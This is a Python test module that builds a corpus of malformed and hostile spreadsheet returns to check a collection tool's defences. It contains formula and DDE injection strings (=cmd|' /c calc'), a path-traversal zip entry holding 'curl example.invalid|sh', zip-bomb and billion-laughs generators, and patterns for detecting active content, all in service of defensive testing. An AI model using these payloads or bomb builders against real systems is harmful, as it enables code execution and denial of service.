"""A corpus of broken, tampered and hostile returns, built at test time (no binaries in git).

Returns come from hundreds of people and from email. `build_corpus(root)` issues
templates from a small ledger into `root/x.db`, fills good returns as departments
do, and derives from them every kind of bad file the office meets or must
survive — each a `Case` paired with the finding codes and the status `collect`
must give it. The files are made with openpyxl (`tests.fill`), zipfile,
msoffcrypto-tool and, where no library writes the thing, by hand (an OLE `.xls`,
an `.ods`, zip headers that lie); returns as WPS and Excel's Strict Open XML save them,
and an `.xls` that names its template, come from `tests.office_variants`.

The corpus is collected with `CORPUS_LIMITS` (`CORPUS_LIMIT_SETTINGS` on the
command line): small enough that the bombs stay small on disk and fast, large
enough for every good return. `real_bombs(...)` makes gigabyte bombs, a
megabyte each on disk, against the default limits.

`assert_inert_workbook(path, texts=...)` checks that a workbook written for
people to open holds nothing that acts when opened — no formula, hyperlink, DDE
or external link — and that the given returned texts are in it as plain text:
for the feedback and summary workbooks here, and for the disclosure.
"""

from __future__ import annotations

import io
import os
import random
import re
import shutil
import string
import struct
import warnings
import zipfile
import zlib
from collections.abc import Callable, Iterable, Mapping
from dataclasses import dataclass
from pathlib import Path
from xml.etree.ElementTree import Element

from defusedxml import ElementTree
from msoffcrypto.format.ooxml import OOXMLFile  # type: ignore[import-untyped]
from openpyxl import load_workbook
from openpyxl.packaging.custom import CustomPropertyList

from tests.conftest import complete_values, ledger_row, write_ledger
from tests.fill import delete_sheet, fill_with_openpyxl, set_cell, unprotect_sheet
from tests.office_variants import as_strict, as_wps, old_xls_of, ole_entry
from xltool.collect.archive import OLE_MAGIC
from xltool.collect.reader import open_xlsx
from xltool.limits import MB, Limits, with_limits
from xltool.store import IssuedCell, open_store
from xltool.template import IssuedWorkbook, issue_templates

CORPUS_LIMIT_SETTINGS = ("part-mb=4", "total-mb=32", "strings=20000")
CORPUS_LIMITS: Limits = with_limits(CORPUS_LIMIT_SETTINGS)
BOMB_BYTES = 16 * MB  # what the corpus bombs inflate to: four times CORPUS_LIMITS' part limit

ACCEPTED, REJECTED, DUPLICATE, SUPERSEDED = "accepted", "rejected", "duplicate", "superseded"

# Returned text that a spreadsheet would run if it were written as a formula.
HOSTILE_TEXTS = (
    '=HYPERLINK("http://example.invalid/x","点击查看")',
    "=cmd|' /c calc'!A1",
    "@SUM(1+1)*cmd|' /c calc'!A0",
    "+1+1",
    "-1+1",
)
HOSTILE_FILE_NAME = "=cmd|' -c calc'!A1.xlsx"

# One department per return that is accepted, so that no accepted case supersedes another.
DEPARTMENTS = {
    "001": "示例局", "002": "宏表局", "003": "公式局", "004": "全角局",
    "005": "多格局", "006": "注入局", "007": "重复局", "008": "两版局",
    "009": "金山局", "010": "严格局", "011": "旧版局",
}
WPS_DEPARTMENT = "009"  # its 项目属性 is left to it: a dropdown from the hidden list sheet
BASE_TIME = 1_700_000_000


@dataclass(frozen=True)
class Case:
    """One file of the corpus and what collect must make of it."""

    name: str
    path: Path
    expected_codes: frozenset[str]
    status: str
    what: str


@dataclass(frozen=True)
class Corpus:
    store: Path
    inbox: Path
    cases: tuple[Case, ...]
    templates: Mapping[str, IssuedWorkbook]
    """The issued workbook per department code."""


# -- the ledger, the templates and good returns ---------------------------------------------


def issue(root: Path) -> dict[str, IssuedWorkbook]:
    """Templates for the DEPARTMENTS (001 with two projects) into `root/x.db`."""
    rows = [ledger_row("001-01", "办公经费", total="10"),
            ledger_row("001-02", "宣传经费", total="5.5")]
    rows += [ledger_row(f"{code}-01", f"{name}运行经费", department=(code, name), total="8",
                        **({"项目属性": ""} if code == WPS_DEPARTMENT else {}))
             for code, name in DEPARTMENTS.items() if code != "001"]
    ledger = write_ledger(root / "ledger.csv", rows)
    run = issue_templates(ledger, root / "templates", store=root / "x.db")
    return {w.department_code: w for w in run.workbooks}


def template_cells(store: Path, template_id: str) -> list[IssuedCell]:
    with open_store(store) as opened:
        return opened.issued_form(template_id).cells()


def good_return(store: Path, workbook: IssuedWorkbook, out: Path,
                **changes: object) -> Path:
    """WORKBOOK filled completely, with CHANGES (defined name → value) on top."""
    values = {**complete_values(store, workbook.template_id), **changes}
    return fill_with_openpyxl(workbook.path, values, out)


def cell_of(store: Path, workbook: IssuedWorkbook, *, name: str = "",
            field: str = "") -> IssuedCell:
    """The issued cell with that defined name, or the first with that field."""
    return next(c for c in template_cells(store, workbook.template_id)
                if (name and c.name == name) or (field and c.field == field))


# -- zip surgery -------------------------------------------------------------------------------


def parts(path: Path) -> list[tuple[zipfile.ZipInfo, bytes]]:
    with zipfile.ZipFile(path) as archive:
        return [(info, archive.read(info)) for info in archive.infolist()]


def rezip(source: Path, out: Path, *, change: Mapping[str, bytes] = {},
          add: Iterable[tuple[str, bytes]] = ()) -> Path:
    """SOURCE's parts, some replaced, some added (a name may repeat), deflated into OUT."""
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns of a repeated name: that is the point
        for info, data in parts(source):
            target.writestr(info.filename, change.get(info.filename, data))
        for name, data in add:
            target.writestr(name, data)
    return out


def sheet_part(path: Path, sheet: str) -> str:
    """The zip entry that holds SHEET."""
    return open_xlsx(path.read_bytes()).sheets[sheet].part


def edit_part(source: Path, part: str, out: Path, edit: Callable[[bytes], bytes]) -> Path:
    return rezip(source, out, change={part: edit(dict((i.filename, d) for i, d in
                                                      parts(source))[part])})


def before_sheet_end(xml: bytes, extra: bytes) -> bytes:
    return xml.replace(b"</sheetData>", extra + b"</sheetData>", 1)


def repeated_spaces(megabytes: int) -> bytes:
    """Deflate blocks, without the final one, that inflate to MEGABYTES MB of spaces: one
    flushed block repeated, so a gigabyte costs a second to make."""
    block = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    one = block.compress(b" " * MB) + block.flush(zlib.Z_FULL_FLUSH)
    return one * megabytes


def with_raw_entry(source: Path, out: Path, name: str, stream: bytes, *, size: int,
                   crc: int) -> Path:
    """SOURCE with entry NAME's data replaced by the raw deflate STREAM, its headers claiming
    SIZE and CRC: the truth, or a lie."""
    with zipfile.ZipFile(out, "w") as target:
        for item, content in parts(source):
            if item.filename == name:  # stored verbatim, then relabelled as deflated
                target.writestr(zipfile.ZipInfo(name, item.date_time), stream)
            else:
                target.writestr(item.filename, content, compress_type=zipfile.ZIP_DEFLATED)
    data = bytearray(out.read_bytes())
    with zipfile.ZipFile(out) as archive:
        local = archive.getinfo(name).header_offset
    for header, method_at in ((local, 8), (_central_entry(bytes(data), name), 10)):
        crc_at = method_at + 6
        struct.pack_into("<H", data, header + method_at, zipfile.ZIP_DEFLATED)
        struct.pack_into("<I", data, header + crc_at, crc)
        struct.pack_into("<I", data, header + crc_at + 8, size)
    out.write_bytes(bytes(data))
    return out


def _central_entry(data: bytes, name: str) -> int:
    """Offset of NAME's header in the central directory."""
    encoded = name.encode()
    end = data.rfind(b"PK\x05\x06")
    start: int = struct.unpack_from("<I", data, end + 16)[0]
    while start < end:
        name_length, extra_length, comment_length = struct.unpack_from("<HHH", data, start + 28)
        if data[start + 46:start + 46 + name_length] == encoded:
            return start
        start += 46 + name_length + extra_length + comment_length
    raise KeyError(name)


# -- files in other formats, made by hand -------------------------------------------------------

_END_OF_CHAIN, _FREE, _FAT_SECTOR, _NO_STREAM = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD, 0xFFFFFFFF


def old_xls() -> bytes:
    """An Excel 97-2003 workbook: a BIFF8 `Workbook` stream (globals BOF and EOF) in an OLE
    compound file with one FAT sector, one directory sector and the stream in 512-byte
    sectors."""
    bof = struct.pack("<HHHHHHII", 0x0809, 16, 0x0600, 0x0005, 0x0DBB, 0x07CC, 0x000100C1,
                      0x00000106)
    stream = (bof + struct.pack("<HH", 0x000A, 0)).ljust(4096, b"\0")  # at the mini cut-off
    count = len(stream) // 512
    fat = [_FAT_SECTOR, _END_OF_CHAIN, *range(3, 2 + count), _END_OF_CHAIN]
    header = bytearray(512)
    header[:8] = OLE_MAGIC
    struct.pack_into("<HHHHH", header, 24, 0x003E, 0x0003, 0xFFFE, 9, 6)
    struct.pack_into("<9I", header, 40, 0, 1, 1, 0, 4096, _END_OF_CHAIN, 0, _END_OF_CHAIN, 0)
    struct.pack_into("<109I", header, 76, 0, *[_FREE] * 108)
    directory = (ole_entry("Root Entry", 5, child=1, start=_END_OF_CHAIN)
                 + ole_entry("Workbook", 2, start=2, size=len(stream))
                 + _unused_entry() * 2)
    return (bytes(header) + struct.pack("<128I", *fat, *[_FREE] * (128 - len(fat)))
            + directory + stream)


def _unused_entry() -> bytes:
    entry = bytearray(128)
    struct.pack_into("<III", entry, 68, _NO_STREAM, _NO_STREAM, _NO_STREAM)
    return bytes(entry)


ODS_MANIFEST = """<?xml version="1.0" encoding="UTF-8"?>
<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"
 manifest:version="1.2">
 <manifest:file-entry manifest:full-path="/" manifest:version="1.2"
  manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>
 <manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>
</manifest:manifest>
"""
ODS_CONTENT = (  # no white space between cells: readers take it for content
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
    ' xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"'
    ' xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2">'
    '<office:body><office:spreadsheet><table:table table:name="绩效目标"><table:table-row>'
    '<table:table-cell office:value-type="string"><text:p>年度总体目标</text:p></table:table-cell>'
    '<table:table-cell office:value-type="float" office:value="95"><text:p>95</text:p>'
    "</table:table-cell></table:table-row></table:table></office:spreadsheet></office:body>"
    "</office:document-content>"
)


def ods() -> bytes:
    """An OpenDocument spreadsheet: `mimetype` first and stored, a manifest, one table."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr("META-INF/manifest.xml", ODS_MANIFEST, zipfile.ZIP_DEFLATED)
        archive.writestr("content.xml", ODS_CONTENT, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def xlsb() -> bytes:
    """The package of a binary workbook (only its shape matters: it is refused unread)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://'
                         'schemas.openxmlformats.org/package/2006/content-types"/>')
        archive.writestr("xl/workbook.bin", b"\x83\x01\x00\x84\x01\x00")
    return out.getvalue()


def encrypted(path: Path) -> bytes:
    """PATH encrypted with a password, as Excel's 用密码进行加密 does (msoffcrypto-tool)."""
    out = io.BytesIO()
    with path.open("rb") as source:
        OOXMLFile(source).encrypt("报送密码", out)
    return out.getvalue()


ENTITY_BOMB = b"""<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<!DOCTYPE sst [
 <!ENTITY a "aaaaaaaaaa">
 <!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
 <!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">
 <!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">
 <!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;">
 <!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">
 <!ENTITY g "&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;">
 <!ENTITY h "&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;">
 <!ENTITY i "&h;&h;&h;&h;&h;&h;&h;&h;&h;&h;">
]>
<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1"
 uniqueCount="1"><si><t>&i;</t></si></sst>
"""


# -- the corpus ---------------------------------------------------------------------------------


def build_corpus(root: Path) -> Corpus:
    """Issue the templates, then write every case into `root/inbox`, oldest first."""
    templates = issue(root)
    store, inbox, work = root / "x.db", root / "inbox", root / "work"
    inbox.mkdir()
    work.mkdir()
    maker = _Maker(store, templates, inbox, work, root)
    cases = maker.all()
    for number, case in enumerate(cases):  # collect takes files oldest first
        os.utime(case.path, (BASE_TIME + number, BASE_TIME + number))
    return Corpus(store, inbox, tuple(cases), templates)


class _Maker:
    """Writes the cases; each method returns its own."""

    def __init__(self, store: Path, templates: dict[str, IssuedWorkbook], inbox: Path,
                 work: Path, root: Path) -> None:
        self.store, self.templates, self.inbox, self.work, self.root = \
            store, templates, inbox, work, root
        self.good = good_return(store, templates["001"], work / "good-001.xlsx")
        self.random = random.Random(20240101)

    def case(self, name: str, content: bytes | Path, codes: Iterable[str], status: str,
             what: str) -> Case:
        path = self.inbox / name
        if isinstance(content, Path):
            shutil.copyfile(content, path)
        else:
            path.write_bytes(content)
        return Case(name, path, frozenset(codes), status, what)

    def sheet(self, department: str = "001", position: int = 0) -> str:
        return self.templates[department].sheets[position]

    def all(self) -> list[Case]:
        return [*self.not_workbooks(), *self.other_formats(), *self.not_ours(),
                *self.tampered(), *self.odd_but_fine(), *self.limits(), *self.good_ones()]

    def not_workbooks(self) -> list[Case]:
        noise = bytes(self.random.randrange(256) for _ in range(4096))
        noise = b"\x00" + noise[1:]  # neither a zip nor an OLE file by chance
        archive = io.BytesIO()
        with zipfile.ZipFile(archive, "w") as plain:
            plain.writestr("说明.txt", "请查收附件。".encode())
            plain.writestr("附件/目标表.csv", "项目编码,指标值\n001-01,≥5次\n".encode())
        data = self.good.read_bytes()
        return [
            self.case("empty.xlsx", b"", ["file.empty"], REJECTED, "an empty file"),
            self.case("random.xlsx", noise, ["file.not_workbook"], REJECTED, "random bytes"),
            self.case("truncated.xlsx", data[:len(data) // 2], ["file.corrupt"], REJECTED,
                      "a truncated zip (half an email attachment)"),
            self.case("archive.xlsx", archive.getvalue(), ["file.not_workbook"], REJECTED,
                      "a zip that is not a workbook"),
        ]

    def other_formats(self) -> list[Case]:
        macro = good_return(self.store, self.templates["002"], self.work / "macro.xlsx")
        vba = b"\xcc\x61" + b"Attribute VB_Name = \"Module1\"\r\nSub Auto_Open()\r\nEnd Sub"
        return [
            self.case("encrypted.xlsx", encrypted(self.good), ["file.encrypted"], REJECTED,
                      "an encrypted workbook (msoffcrypto-tool)"),
            self.case("old.xls", old_xls(), ["file.xls"], REJECTED, "an old .xls (BIFF8, OLE)"),
            self.case("binary.xlsb", xlsb(), ["file.xlsb"], REJECTED, "an .xlsb package"),
            self.case("calc.ods", ods(), ["file.ods"], REJECTED, "an .ods"),
            self.case("named.xls", old_xls_of({
                "xltool.template_id": self.templates["011"].template_id}, codepage=1200,
                wide=True), ["file.xls"], REJECTED,
                "an .xls whose properties name its template (its department's feedback)"),
            self.case("macro.xlsm", rezip(macro, self.work / "macro.xlsm",
                                          add=[("xl/vbaProject.bin", vba)]),
                      ["file.macros"], ACCEPTED, "an .xlsm with a macro part (accepted)"),
        ]

    def not_ours(self) -> list[Case]:
        elsewhere = self.root / "elsewhere.db"
        office = write_ledger(self.root / "office.csv", [ledger_row(
            "901-01", "外单位经费", department=("901", "外单位"))])
        other = issue_templates(office, self.root / "office", store=elsewhere).workbooks[0]
        old = write_ledger(self.root / "old.csv", [ledger_row("001-01", "办公经费", 年度="2022")])
        former = issue_templates(old, self.root / "old", store=elsewhere).workbooks[0]
        anonymous = self.work / "anonymous.xlsx"
        workbook = load_workbook(self.good)
        workbook.custom_doc_props = CustomPropertyList()
        del workbook.defined_names["XT_TEMPLATE_ID"]
        workbook.save(anonymous)
        return [
            self.case("other-office.xlsx", other.path, ["file.unknown_template"], REJECTED,
                      "a template another office issued"),
            self.case("other-year.xlsx", former.path, ["file.other_year"], REJECTED,
                      "a template of another year"),
            self.case("no-identity.xlsx", anonymous, ["file.not_template"], REJECTED,
                      "a copy with the identity removed"),
        ]

    def tampered(self) -> list[Case]:
        amount = cell_of(self.store, self.templates["001"], field="funding.total")
        unprotected = unprotect_sheet(self.good, amount.sheet, self.work / "unprotected.xlsx")
        changed = set_cell(unprotected, amount.sheet, amount.cell, 100, self.work / "amount.xlsx")
        deleted = delete_sheet(self.good, self.sheet(position=1), self.work / "deleted.xlsx")
        return [
            self.case("unprotected-amount.xlsx", changed,
                      ["form.unprotected", "form.locked_changed"], REJECTED,
                      "a sheet unprotected and a locked amount changed"),
            self.case("sheet-deleted.xlsx", deleted, ["form.sheet_missing"], REJECTED,
                      "a project's sheet deleted"),
            self.case("row-inserted.xlsx", self.row_inserted(),
                      # the names moved, the labels too, the last row left the form, and
                      # what is at the recorded input cells no longer fits
                      ["form.unprotected", "form.structure_changed", "form.locked_changed",
                       "form.outside_cells", "rule.required_empty", "rule.not_quantitative"],
                      REJECTED, "a row inserted as Excel does (names move with it)"),
            self.case("formula-like-text.xlsx", self.hostile(), ["rule.name_missing"],
                      REJECTED, "formula-like text typed as values (=HYPERLINK, DDE, @, +, -)"),
        ]

    def row_inserted(self) -> Path:
        """Unprotect, insert a row above the first indicator and move the defined names below
        it, as Excel does (openpyxl moves only the cells)."""
        sheet = self.sheet()
        workbook = load_workbook(unprotect_sheet(self.good, sheet, self.work / "open.xlsx"))
        workbook[sheet].insert_rows(14)
        below = re.compile(r"\$([A-Z]+)\$(\d+)")
        for defined in workbook.defined_names.values():
            if defined.attr_text and sheet in defined.attr_text:
                defined.attr_text = below.sub(
                    lambda m: f"${m[1]}${int(m[2]) + (int(m[2]) >= 14)}", defined.attr_text)
        workbook.save(self.work / "inserted.xlsx")
        return self.work / "inserted.xlsx"

    def hostile(self) -> Path:
        slots = ["XT_P01_C02_R02_VALUE", "XT_P01_C03_R02_VALUE", "XT_P01_C05_R01_VALUE",
                 "XT_P01_C06_R02_VALUE", "XT_P01_C07_R01_VALUE"]
        return good_return(self.store, self.templates["006"], self.work / "hostile.xlsx",
                           **dict(zip(slots, HOSTILE_TEXTS, strict=True)))

    def odd_but_fine(self) -> list[Case]:
        """Returns a careful reader accepts: what a department did is read, or said."""
        formula = good_return(self.store, self.templates["003"], self.work / "formula.xlsx")
        target = cell_of(self.store, self.templates["003"], name="XT_P01_C01_R01_VALUE")
        part = sheet_part(formula, target.sheet)
        typed = edit_part(formula, part, self.work / "typed-formula.xlsx",
                          lambda xml: as_formula(xml, target.cell, '"≥"&5&"次"', "≥5次"))
        fullwidth = good_return(self.store, self.templates["004"], self.work / "fullwidth.xlsx",
                                XT_P01_C09_R01_VALUE="９５％")
        extra = good_return(self.store, self.templates["005"], self.work / "extra.xlsx")
        workbook = load_workbook(extra)
        sheet = workbook[self.sheet("005")]
        for row in range(1, 101):
            for column in range(8, 108):
                sheet.cell(row=row, column=column, value=f"备注{row}-{column}")
        workbook.save(extra)
        wps = good_return(self.store, self.templates[WPS_DEPARTMENT],
                          self.work / "wps-clean.xlsx", XT_P01_ATTRIBUTE="经常性项目")
        strict = good_return(self.store, self.templates["010"], self.work / "strict-clean.xlsx")
        return [
            self.case("wps.xlsx", as_wps(wps, self.work / "wps.xlsx"), [], ACCEPTED,
                      "a return as WPS saves it (dimension A1:A1, customHeight, x14 lists)"),
            self.case("strict.xlsx", as_strict(strict, self.work / "strict.xlsx"), [], ACCEPTED,
                      "a return in Strict Open XML (purl.oclc.org namespaces)"),
            self.case("formula.xlsx", typed, ["cell.formula"], ACCEPTED,
                      "a formula typed into an input cell (read by its cached value)"),
            self.case("fullwidth.xlsx", fullwidth, [], ACCEPTED,
                      "a number typed as text in full-width digits (９５％)"),
            self.case("extra-cells.xlsx", extra, ["form.outside_cells"], ACCEPTED,
                      "10,000 extra filled cells outside the form"),
        ]

    def limits(self) -> list[Case]:
        sheet = self.sheet()
        part = sheet_part(self.good, sheet)
        xml = dict((i.filename, d) for i, d in parts(self.good))[part]
        issued = self.templates["001"].path  # xlsxwriter writes shared strings, openpyxl inline
        strings = dict((i.filename, d) for i, d in parts(issued))["xl/sharedStrings.xml"]
        long_text = "".join(self.random.choices(string.ascii_letters + "，。绩效目标", k=MB))
        goal = cell_of(self.store, self.templates["001"], name="XT_P01_GOAL").cell
        padded = xml.replace(b"</worksheet>", b" " * BOMB_BYTES + b"</worksheet>")
        far = before_sheet_end(xml, b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')
        many = strings.replace(b"</sst>", b"".join(b"<si><t>%d</t></si>" % n
                                                    for n in range(30_000)) + b"</sst>")
        garbage = before_sheet_end(xml, b'<row r="40"><c r="A40" t="n"><v>abc</v></c></row>')
        twice = before_sheet_end(xml, b'<row r="30"><c r="A30" r="XFD1048576"><v>1</v></c></row>')
        unfinished = before_sheet_end(xml, b"<c " * 100_000 + b"<f>")
        workbook = dict((i.filename, d) for i, d in parts(self.good))["xl/workbook.xml"]
        names = workbook.replace(b"</definedNames>", b"".join(
            b'<definedName name="n%x">' % self.random.getrandbits(64) for _ in range(100_000))
            + b"</definedNames>")  # names that differ: no compression ratio gives them away
        twin = xml.replace("办公经费".encode(), "另一个项目".encode())

        def zipped(name: str, *, sheet: bytes = b"", shared: bytes = b"") -> Path:
            if shared:
                return rezip(issued, self.work / name, change={"xl/sharedStrings.xml": shared})
            return rezip(self.good, self.work / name, change={part: sheet})
        return [
            self.case("long-text.xlsx", zipped("long.xlsx", sheet=as_text(xml, goal, long_text)),
                      ["cell.too_long"], REJECTED, "a 1 MB string in one cell (the goal)"),
            self.case("entity-bomb.xlsx", zipped("entities.xlsx", shared=ENTITY_BOMB),
                      ["file.xml_dtd"], REJECTED,
                      "sharedStrings with an entity-expansion bomb (billion laughs)"),
            self.case("zip-bomb.xlsx", zipped("bomb.xlsx", sheet=padded), ["file.zip_bomb"],
                      REJECTED, "a zip bomb: a sheet part inflating past the limit"),
            self.case("zip-bomb-hidden.xlsx", hidden_bomb(
                self.good, self.work / "hidden.xlsx", part, BOMB_BYTES // MB),
                ["file.zip_bomb"], REJECTED,
                "a zip bomb whose headers claim the size of the sheet alone"),
            self.case("dotdot.xlsx", rezip(self.good, self.work / "dotdot.xlsx",
                                           add=[("../../.bashrc", b"curl example.invalid|sh")]),
                      ["file.bad_entry_name"], REJECTED, "an entry named ../../.bashrc"),
            self.case("twin-entries.xlsx", rezip(self.good, self.work / "twins.xlsx",
                                                 add=[(part, twin)]),
                      ["file.bad_entry_name"], REJECTED,
                      "two entries of one name (readers differ on which counts)"),
            self.case("far-cell.xlsx", zipped("far.xlsx", sheet=far), ["file.too_many_cells"],
                      REJECTED, "one cell at XFD1048576 (a 17-billion-cell grid)"),
            self.case("many-strings.xlsx", zipped("strings.xlsx", shared=many),
                      ["file.too_many_strings"], REJECTED, "30,000 shared strings"),
            self.case("garbage-cell.xlsx", zipped("garbage.xlsx", sheet=garbage),
                      ["file.corrupt"], REJECTED, "a number cell holding text"),
            self.case("two-positions.xlsx", zipped("twice.xlsx", sheet=twice), ["file.corrupt"],
                      REJECTED, "a cell tag with two positions, A30 and XFD1048576"),
            self.case("unfinished-cells.xlsx", zipped("unfinished.xlsx", sheet=unfinished),
                      ["file.corrupt"], REJECTED, "100,000 unfinished <c tags (one pass each "
                      "would be quadratic)"),
            self.case("unfinished-names.xlsx", rezip(self.good, self.work / "names.xlsx", change={
                "xl/workbook.xml": names}), ["file.corrupt"], REJECTED,
                "100,000 unfinished defined names"),
        ]

    def good_ones(self) -> list[Case]:
        same = good_return(self.store, self.templates["007"], self.work / "same.xlsx")
        first = good_return(self.store, self.templates["008"], self.work / "v1.xlsx")
        second = good_return(self.store, self.templates["008"], self.work / "v2.xlsx",
                             XT_P01_C01_R01_VALUE="≥8次")
        hostile_name = good_return(self.store, self.templates["006"], self.work / "named.xlsx")
        return [
            self.case("good-001.xlsx", self.good, [], ACCEPTED, "a complete return"),
            self.case(HOSTILE_FILE_NAME, hostile_name, [], ACCEPTED,
                      "a complete return whose file name is a formula"),
            self.case("same-a.xlsx", same, [], ACCEPTED, "a return ..."),
            self.case("same-b.xlsx", same, [], DUPLICATE, "... and the same file again"),
            self.case("version-1.xlsx", first, [], SUPERSEDED, "one department's return ..."),
            self.case("version-2.xlsx", second, [], ACCEPTED, "... and its newer version"),
        ]


def as_formula(xml: bytes, cell: str, formula: str, cached: str) -> bytes:
    """XML with CELL holding FORMULA and its cached text result, as Excel saves one."""
    return replace_cell(xml, cell, b't="str"', b"<f>%s</f><v>%s</v>" % (
        _escaped(formula), _escaped(cached)))


def as_text(xml: bytes, cell: str, text: str) -> bytes:
    """XML with CELL holding TEXT inline, however long (openpyxl cuts text at 32,767)."""
    return replace_cell(xml, cell, b't="inlineStr"', b"<is><t>%s</t></is>" % _escaped(text))


def replace_cell(xml: bytes, cell: str, kind: bytes, content: bytes) -> bytes:
    """XML with CELL's element replaced by one of type KIND holding CONTENT (style kept)."""
    def replace(match: re.Match[bytes]) -> bytes:
        style = re.search(rb'\ss="(\d+)"', match[1])
        styled = b' s="%s"' % style[1] if style else b""
        return b'<c r="%s"%s %s>%s</c>' % (cell.encode(), styled, kind, content)
    pattern = re.compile(rb'<c r="%s"([^>]*?)(?:/>|>.*?</c>)' % cell.encode(), re.S)
    changed, count = pattern.subn(replace, xml)
    assert count == 1, cell
    return changed


def _escaped(text: str) -> bytes:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;").encode()


def hidden_bomb(source: Path, out: Path, part: str, megabytes: int) -> Path:
    """SOURCE whose PART's stream inflates to the sheet and then MEGABYTES MB of spaces, while
    its headers claim the sheet alone, with the sheet's checksum."""
    xml = dict((i.filename, d) for i, d in parts(source))[part]
    head = zlib.compressobj(6, zlib.DEFLATED, -zlib.MAX_WBITS)
    stream = (head.compress(xml) + head.flush(zlib.Z_FULL_FLUSH) + repeated_spaces(megabytes)
              + zlib.compressobj(6, zlib.DEFLATED, -zlib.MAX_WBITS).flush())
    return with_raw_entry(source, out, part, stream, size=len(xml), crc=zlib.crc32(xml))


# -- bombs against the default limits -------------------------------------------------------------


def real_bombs(root: Path, source: Path, sheet: str) -> dict[str, Path]:
    """Gigabyte bombs made from the return SOURCE, each about a megabyte on disk: SHEET's part
    saying it inflates to a gigabyte, the same hiding it behind the sheet's own size, a
    `mimetype` entry (looked at before anything else) inflating to a gigabyte, and one cell
    at XFD1048576."""
    part = sheet_part(source, sheet)
    gigabyte = 1024
    xml = dict((i.filename, d) for i, d in parts(source))[part]
    crc = 0
    for _ in range(gigabyte):
        crc = zlib.crc32(b" " * MB, crc)
    spaces = repeated_spaces(gigabyte) + zlib.compressobj(6, zlib.DEFLATED,
                                                          -zlib.MAX_WBITS).flush()
    with_mimetype = root / "with-mimetype.xlsx"
    with zipfile.ZipFile(with_mimetype, "w", zipfile.ZIP_DEFLATED) as target:
        target.writestr("mimetype", b"")
        for info, content in parts(source):
            target.writestr(info.filename, content)
    return {
        "declared": with_raw_entry(source, root / "declared-bomb.xlsx", part, spaces,
                                   size=gigabyte * MB, crc=crc),
        "hidden": hidden_bomb(source, root / "hidden-bomb.xlsx", part, gigabyte),
        "mimetype": with_raw_entry(with_mimetype, root / "mimetype-bomb.xlsx", "mimetype",
                                   spaces, size=gigabyte * MB, crc=crc),
        "far-cell": rezip(source, root / "far-cell.xlsx", change={part: before_sheet_end(
            xml, b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')}),
    }


# -- safe to open ---------------------------------------------------------------------------------

MAIN_NS = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
# Parts that act when a workbook is opened: external links (and their DDE and OLE links),
# embedded objects and controls, data connections and queries, macros.
ACTIVE_PARTS = re.compile(r"(?i)^xl/(externalLinks|embeddings|activeX|ctrlProps|queryTables)/"
                          r"|^xl/(connections\.xml|vbaProject\.bin)$")
ACTIVE_RELATIONSHIPS = {"hyperlink", "externalLink", "externalLinkPath", "oleObject", "package",
                        "control", "connections", "queryTable", "vbaProject", "attachedTemplate"}
# In a formula: functions that reach outside the workbook, and DDE's `app|topic!item`.
ACTIVE_FORMULA = re.compile(r"(?i)HYPERLINK|WEBSERVICE|FILTERXML|CALL\(|REGISTER|EXEC|DDE|RTD|\|")


def assert_inert_workbook(path: Path, *, texts: Iterable[str] = (), formulas: bool = False,
                          internal_links: bool = False) -> None:
    """PATH holds nothing that acts when it is opened, and every one of TEXTS as plain text.

    No external-link, DDE, OLE, connection or macro part; no relationship to a hyperlink or
    anything external; no hyperlink, unless INTERNAL_LINKS and it only moves to a place in
    this workbook (a contents sheet); no formula at all unless FORMULAS (and then none that
    reaches outside the workbook); no defined name that reaches outside. Each of TEXTS —
    returned text such as `=HYPERLINK(...)` — must be in the workbook's strings.
    """
    with zipfile.ZipFile(path) as archive:
        names = archive.namelist()
        active = [name for name in names if ACTIVE_PARTS.search(name)]
        assert not active, f"{path.name}: active parts {active}"
        strings: list[str] = []
        for name in names:
            if not name.endswith((".xml", ".rels")):
                continue
            root = ElementTree.fromstring(archive.read(name))
            if name.endswith(".rels"):
                _inert_relationships(path, name, root)
            elif name == "xl/sharedStrings.xml":
                strings += ["".join(t.text or "" for t in si.iter(f"{MAIN_NS}t"))
                            for si in root.iter(f"{MAIN_NS}si")]
            elif name == "xl/workbook.xml":
                for defined in root.iter(f"{MAIN_NS}definedName"):
                    assert not ACTIVE_FORMULA.search(defined.text or ""), \
                        f"{path.name}: defined name {defined.get('name')} = {defined.text}"
            elif name.startswith("xl/worksheets/"):
                strings += _inert_sheet(path, name, root, formulas, internal_links)
    missing = [text for text in texts if not any(text in found for found in strings)]
    assert not missing, f"{path.name}: returned texts not written as text: {missing}"


def _inert_relationships(path: Path, name: str, root: Element) -> None:
    for relationship in root:
        kind = relationship.get("Type", "").rsplit("/", 1)[-1]
